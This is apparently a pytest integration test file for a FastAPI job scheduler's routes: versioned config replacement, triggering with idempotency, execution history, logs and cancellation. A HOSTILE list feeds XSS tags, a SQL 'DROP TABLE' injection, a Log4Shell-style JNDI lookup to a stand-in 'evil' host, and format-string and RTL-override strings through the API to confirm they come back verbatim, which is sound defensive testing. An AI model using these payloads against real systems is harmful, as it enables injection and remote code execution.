"""The job routes: read, replace (If-Match, 409, 422 by field), trigger (202, idempotency,
overrides), history paging, execution detail, cancel, revisions; hostile strings verbatim."""

from __future__ import annotations

import sys
from datetime import timedelta
from typing import Any

import pytest
from fastapi import FastAPI

from grove_jobs.clock import utcnow
from grove_jobs.configs.revisions import list_revisions
from grove_jobs.configs.store import get_config
from grove_jobs.db.engine import Database
from grove_jobs.db.tables import ExecutionLogRow
from grove_jobs.engine.enqueue import run_now
from grove_jobs.executions.queries import execution_history, get_execution
from tests.conftest import InvalidConfig
from tests.integration.test_api_support import (
    ApiClient,
    admin_client,
    make_token,
    mock_config,
    seeded_app,
    store,
)

JOB = "/api/jobs/mock-health-check"
HOSTILE = [
    "<script>alert('x')</script>",
    "Robert'); DROP TABLE job_configs;--",
    "{{7*7}} ${jndi:ldap://evil/a} %s %n \\u0000-escaped",
    'line one\nline two\ttabbed "quoted"',
    "RTL \u202etxt.exe emoji 🌳 zero\u200bwidth",
    "<img src=x onerror=alert(1)> &amp; &lt;b&gt;",
]


@pytest.fixture
def app(db: Database) -> FastAPI:
    return seeded_app(db)


@pytest.fixture
def client(app: FastAPI, db: Database) -> ApiClient:
    return admin_client(app, db)


# --------------------------------------------------------------------------- read


def test_list_and_get(client: ApiClient) -> None:
    listing = client.get("/api/jobs").json()
    assert listing["total"] == 1
    assert listing["items"][0]["meta"]["id"] == "mock-health-check"
    response = client.get(JOB)
    assert response.status_code == 200
    body = response.json()
    assert body["payload"]["schedule"]["cronExpression"] == "*/5 * * * *"
    assert body["state"]["version"] == 1
    assert response.headers["ETag"] == '"1"'


@pytest.mark.parametrize("config_id", ["nope", "Not A Slug", "a" * 65, "x%00y"])
def test_unknown_job_is_404(client: ApiClient, config_id: str) -> None:
    assert client.get(f"/api/jobs/{config_id}").status_code == 404
    assert client.post(f"/api/jobs/{config_id}/trigger").status_code == 404
    assert client.get(f"/api/jobs/{config_id}/executions").status_code == 404


def test_list_filters(client: ApiClient, db: Database) -> None:
    store(db, mock_config(**{"meta.id": "other", "meta.tags": ["blue"]}))
    assert [j["meta"]["id"] for j in client.get("/api/jobs?tag=blue").json()["items"]] == ["other"]
    assert client.get("/api/jobs?q=zzz-none").json()["total"] == 0
    assert client.get("/api/jobs?enabled=true").json()["total"] == 2


# --------------------------------------------------------------------------- replace


def _edit(client: ApiClient, **changes: Any) -> dict[str, Any]:
    doc = client.get(JOB).json()
    for dotted, value in changes.items():
        *parents, leaf = dotted.split(".")
        node = doc
        for part in parents:
            node = node[part]
        node[leaf] = value
    return doc


def test_put_saves_a_new_version_recorded_as_the_token(client: ApiClient, db: Database) -> None:
    doc = _edit(client, **{"payload.schedule.cronExpression": "0 3 * * *"})
    response = client.put(JOB, json=doc, headers={"If-Match": '"1"'})
    assert response.status_code == 200, response.text
    assert response.headers["ETag"] == '"2"'
    assert response.json()["payload"]["schedule"]["cronExpression"] == "0 3 * * *"
    revision = list_revisions(db, "mock-health-check")[0]
    assert (revision.source, revision.actor, revision.version) == ("api", "token:admin", 2)
    # the same document again changes nothing: no version, no revision
    again = client.put(JOB, json=response.json(), headers={"If-Match": '"2"'})
    assert again.headers["ETag"] == '"2"'
    assert len(list_revisions(db, "mock-health-check")) == 2


def test_put_without_if_match_is_428(client: ApiClient) -> None:
    response = client.put(JOB, json=_edit(client))
    assert response.status_code == 428
    assert "If-Match" in response.json()["detail"]


@pytest.mark.parametrize("value", ["three", '"1", "2"', "-1", '"99999999999"'])
def test_malformed_if_match_is_422(client: ApiClient, value: str) -> None:
    response = client.put(JOB, json=_edit(client), headers={"If-Match": value})
    assert response.status_code == 422
    assert response.json()["detail"][0]["path"] == "header.if-match"


def test_both_preconditions_at_once_is_400(client: ApiClient) -> None:
    headers = {"If-Match": "1", "If-None-Match": "*"}
    assert client.put(JOB, json=_edit(client), headers=headers).status_code == 400


def test_stale_version_is_409_with_both_versions(client: ApiClient, db: Database) -> None:
    mine = _edit(client, **{"meta.title": "mine"})
    theirs = _edit(client, **{"meta.title": "theirs"})
    assert client.put(JOB, json=theirs, headers={"If-Match": '"1"'}).status_code == 200
    response = client.put(JOB, json=mine, headers={"If-Match": '"1"'})
    assert response.status_code == 409
    body = response.json()
    assert (body["expectedVersion"], body["currentVersion"]) == (1, 2)
    assert response.headers["ETag"] == '"2"'
    assert get_config(db, "mock-health-check").object.meta.title == "theirs"


def test_if_match_star_skips_the_check(client: ApiClient) -> None:
    client.put(JOB, json=_edit(client, **{"meta.title": "a"}), headers={"If-Match": "1"})
    doc = _edit(client, **{"meta.title": "b"})
    assert client.put(JOB, json=doc, headers={"If-Match": "*"}).status_code == 200


def test_invalid_config_is_422_by_field(
    client: ApiClient, invalid_config: InvalidConfig, db: Database
) -> None:
    data = invalid_config.build()
    response = client.put(JOB, json=data, headers={"If-Match": '"1"'})
    assert response.status_code == 422, response.text
    paths = [e["path"] for e in response.json()["detail"]]
    assert invalid_config.path in paths
    assert all(set(e) == {"path", "message"} for e in response.json()["detail"])
    assert get_config(db, "mock-health-check").version == 1


@pytest.mark.parametrize(
    ("body", "path"),
    [
        ([1, 2], ""),
        ({"meta": {"id": "another"}, "payload": {}}, "meta.id"),
        ({"meta": {"title": "nul \x00 inside"}, "payload": {}}, "meta.title"),
    ],
)
def test_malformed_bodies_are_422(client: ApiClient, body: Any, path: str) -> None:
    response = client.put(JOB, json=body, headers={"If-Match": '"1"'})
    assert response.status_code == 422
    assert path in [e["path"] for e in response.json()["detail"]]


def test_put_creates_with_if_none_match(client: ApiClient, db: Database) -> None:
    data = mock_config(**{"meta.id": "fresh"})
    response = client.put("/api/jobs/fresh", json=data, headers={"If-None-Match": "*"})
    assert response.status_code == 201
    assert list_revisions(db, "fresh")[0].actor == "token:admin"
    again = client.put("/api/jobs/fresh", json=data, headers={"If-None-Match": "*"})
    assert again.status_code == 412
    missing = client.put("/api/jobs/absent", json=data, headers={"If-Match": "1"})
    assert missing.status_code in (404, 422)


def test_hostile_strings_come_back_verbatim(client: ApiClient) -> None:
    for text in HOSTILE:
        version = client.get(JOB).headers["ETag"]
        doc = _edit(client, **{"meta.title": text[:200], "meta.description": text})
        response = client.put(JOB, json=doc, headers={"If-Match": version})
        assert response.status_code == 200, response.text
        read = client.get(JOB).json()
        assert read["meta"]["title"] == text[:200]
        assert read["meta"]["description"] == text
    assert client.get("/api/jobs").headers["content-type"].startswith("application/json")


# --------------------------------------------------------------------------- trigger


def test_trigger_is_202_with_the_execution(app: FastAPI, db: Database) -> None:
    runner = ApiClient(app, make_token(db, "run", name="deploy-bot"))
    response = runner.post(f"{JOB}/trigger")
    assert response.status_code == 202
    execution = response.json()
    assert execution["status"] == "queued"
    assert execution["trigger"] == "api"
    assert execution["requestedBy"] == "token:deploy-bot"
    assert response.headers["Location"] == f"/api/executions/{execution['id']}"
    assert get_execution(db, execution["id"]).requested_by == "token:deploy-bot"


def test_idempotency_key_returns_the_same_execution(app: FastAPI, db: Database) -> None:
    runner = ApiClient(app, make_token(db, "run"))
    headers = {"Idempotency-Key": "deploy-2026-11-28"}
    first = runner.post(f"{JOB}/trigger", headers=headers)
    second = runner.post(f"{JOB}/trigger", headers=headers)
    by_body = runner.post(
        "/api/jobs/trigger", json={"jobConfigId": "mock-health-check"}, headers=headers
    )
    assert first.status_code == 202
    assert second.status_code == 200 and by_body.status_code == 200
    assert first.json()["id"] == second.json()["id"] == by_body.json()["id"]
    assert execution_history(db, "mock-health-check").total == 1
    # Without a key every call is a new run; another token's same key is its own run.
    assert runner.post(f"{JOB}/trigger").json()["id"] != first.json()["id"]
    other = ApiClient(app, make_token(db, "run")).post(f"{JOB}/trigger", headers=headers)
    assert other.status_code == 202 and other.json()["id"] != first.json()["id"]


def test_idempotency_key_with_other_parameters_is_409(client: ApiClient) -> None:
    headers = {"Idempotency-Key": "k"}
    first = client.post(f"{JOB}/trigger", headers=headers, json={"parameters": {"checks": ["api"]}})
    assert first.status_code == 202
    clash = client.post(f"{JOB}/trigger", headers=headers, json={"parameters": {"checks": ["rag"]}})
    assert clash.status_code == 409


def test_bad_idempotency_key_is_422(client: ApiClient) -> None:
    response = client.post(f"{JOB}/trigger", headers={"Idempotency-Key": "x" * 101})
    assert response.status_code == 422
    assert response.json()["detail"][0]["path"] == "header.idempotency-key"


def test_trigger_with_parameter_overrides(client: ApiClient, db: Database) -> None:
    body = {"parameters": {"checks": ["api"], "alertThreshold": "critical"}}
    response = client.post(f"{JOB}/trigger", json=body)
    assert response.status_code == 202
    assert response.json()["parameterOverrides"] == body["parameters"]
    stored = get_execution(db, response.json()["id"])
    assert stored.parameter_overrides == body["parameters"]


@pytest.mark.parametrize(
    ("parameters", "path"),
    [
        ({"checks": ["teleport"]}, "parameters.checks.0"),
        ({"alertThreshold": "panic"}, "parameters.alertThreshold"),
        ({"verbose": True}, "parameters.verbose"),
        ({"jobType": "synthetic"}, "parameters.jobType"),
        ({"checks": ["a\x00b"]}, "parameters.checks.0"),
    ],
)
def test_invalid_overrides_are_422_by_field(
    client: ApiClient, db: Database, parameters: dict, path: str
) -> None:
    response = client.post(f"{JOB}/trigger", json={"parameters": parameters})
    assert response.status_code == 422
    assert path in [e["path"] for e in response.json()["detail"]]
    assert execution_history(db, "mock-health-check").total == 0


@pytest.mark.parametrize(
    ("body", "path"),
    [({}, "jobConfigId"), ({"jobConfigId": "mock-health-check", "extra": 1}, "extra")],
)
def test_trigger_by_body_validates(client: ApiClient, body: dict, path: str) -> None:
    response = client.post("/api/jobs/trigger", json=body)
    assert response.status_code == 422
    assert path in [e["path"] for e in response.json()["detail"]]


def test_hostile_parameters_come_back_verbatim(client: ApiClient, db: Database) -> None:
    store(
        db,
        {
            "meta": {"id": "digest", "type": "job-config"},
            "payload": {
                "jobType": "notification-digest",
                "displayName": "Digest",
                "schedule": {"cronExpression": "0 8 * * *", "timezone": "UTC", "isEnabled": False},
                "retry": {"maxAttempts": 1, "backoffStrategy": "fixed"},
                "limits": {"batchSize": 10, "timeoutSeconds": 30, "maxConcurrent": 1},
                "parameters": {
                    "jobType": "notification-digest",
                    "eventTypes": ["failure"],
                    "recipientIds": ["ops"],
                },
            },
        },
    )
    overrides = {"recipientIds": HOSTILE}
    response = client.post("/api/jobs/digest/trigger", json={"parameters": overrides})
    assert response.status_code == 202, response.text
    detail = client.get(f"/api/executions/{response.json()['id']}").json()
    assert detail["parameterOverrides"] == overrides


# --------------------------------------------------------------------------- history


def test_execution_history_pages_with_next_links(client: ApiClient, db: Database) -> None:
    ids = [
        run_now(db, "mock-health-check", requested_by="t", request_id=f"r{i}").id for i in range(5)
    ]
    seen: list[int] = []
    url: str | None = f"{JOB}/executions?limit=2"
    pages = 0
    while url:
        response = client.get(url)
        assert response.status_code == 200
        page = response.json()
        assert page["total"] == 5
        seen += [e["id"] for e in page["items"]]
        url = page["next"]
        if url:
            assert response.headers["Link"] == f'<{url}>; rel="next"'
        pages += 1
    assert seen == sorted(ids, reverse=True)
    assert pages == 3


def test_execution_history_filters_by_status(client: ApiClient, db: Database) -> None:
    first = run_now(db, "mock-health-check", requested_by="t", request_id="a")
    run_now(db, "mock-health-check", requested_by="t", request_id="b")
    client.post(f"/api/executions/{first.id}/cancel")
    page = client.get(f"{JOB}/executions?status=cancelled").json()
    assert [e["id"] for e in page["items"]] == [first.id]
    assert client.get(f"{JOB}/executions?status=bogus").status_code == 422
    assert client.get(f"{JOB}/executions?limit=0").status_code == 422


def test_revisions_show_who_changed_what(client: ApiClient) -> None:
    doc = _edit(client, **{"payload.limits.batchSize": 25})
    client.put(JOB, json=doc, headers={"If-Match": "1"})
    items = client.get(f"{JOB}/revisions").json()["items"]
    assert [(r["version"], r["actor"], r["source"]) for r in items] == [
        (2, "token:admin", "api"),
        (1, "seed", "cli"),
    ]
    assert items[0]["changes"] == [{"path": "payload.limits.batchSize", "before": 10, "after": 25}]


# --------------------------------------------------------------------------- executions


def _log(db: Database, execution_id: int, message: str, level: str = "info") -> None:
    with db.write() as session:
        session.add(
            ExecutionLogRow(
                execution_id=execution_id, attempt=1, at=utcnow(), level=level, message=message
            )
        )


def test_execution_detail_has_logs_and_render_tree(client: ApiClient, db: Database) -> None:
    execution = run_now(db, "mock-health-check", requested_by="t")
    for text in HOSTILE:
        _log(db, execution.id, text, "warn")
    response = client.get(f"/api/executions/{execution.id}")
    assert response.status_code == 200
    body = response.json()
    assert [line["message"] for line in body["logs"]] == HOSTILE
    tree = body["renderTree"]
    assert tree["type"] == "root"
    assert tree["children"][0]["type"] == "JobPhaseIndicator"
    entries = [c["props"]["message"] for c in tree["children"] if c["type"] == "JobLogEntry"]
    assert entries == HOSTILE  # as text in the tree too; renderers must not interpret it
    tail = client.get(f"/api/executions/{execution.id}?logLimit=2").json()["logs"]
    assert [line["message"] for line in tail] == HOSTILE[-2:]


def test_execution_detail_survives_a_missing_render_layer(
    client: ApiClient, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    execution = run_now(db, "mock-health-check", requested_by="t")
    monkeypatch.setitem(sys.modules, "grove_jobs.render.transforms", None)  # import fails
    response = client.get(f"/api/executions/{execution.id}")
    assert response.status_code == 200
    assert response.json()["renderTree"] is None
    assert response.json()["id"] == execution.id


def test_execution_detail_survives_a_render_error(
    client: ApiClient, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    import grove_jobs.render.transforms as transforms

    def broken(*args: Any, **kwargs: Any) -> None:
        raise ValueError("boom")

    monkeypatch.setattr(transforms, "execution_tree", broken)
    execution = run_now(db, "mock-health-check", requested_by="t")
    response = client.get(f"/api/executions/{execution.id}")
    assert response.status_code == 200 and response.json()["renderTree"] is None


@pytest.mark.parametrize("execution_id", ["999999", "0", "abc", str(2**70)])
def test_unknown_execution(client: ApiClient, execution_id: str) -> None:
    assert client.get(f"/api/executions/{execution_id}").status_code in (404, 422)
    assert client.post(f"/api/executions/{execution_id}/cancel").status_code in (404, 422)


def test_cancel(app: FastAPI, db: Database) -> None:
    operator = ApiClient(app, make_token(db, "run", name="ops"))
    execution = run_now(db, "mock-health-check", requested_by="t")
    response = operator.post(f"/api/executions/{execution.id}/cancel")
    assert response.status_code == 200
    assert response.json()["status"] == "cancelled"
    assert "token:ops" in response.json()["error"]
    again = operator.post(f"/api/executions/{execution.id}/cancel")
    assert again.status_code == 409


def test_cancel_of_a_running_execution_is_202(app: FastAPI, db: Database) -> None:
    from grove_jobs.db.tables import JobExecutionRow

    execution = run_now(db, "mock-health-check", requested_by="t")
    with db.write() as session:
        row = session.get(JobExecutionRow, execution.id)
        row.status, row.started_at, row.attempt = "running", utcnow() - timedelta(seconds=1), 1
    response = ApiClient(app, make_token(db, "run")).post(f"/api/executions/{execution.id}/cancel")
    assert response.status_code == 202
    assert response.json()["cancelRequested"] is True
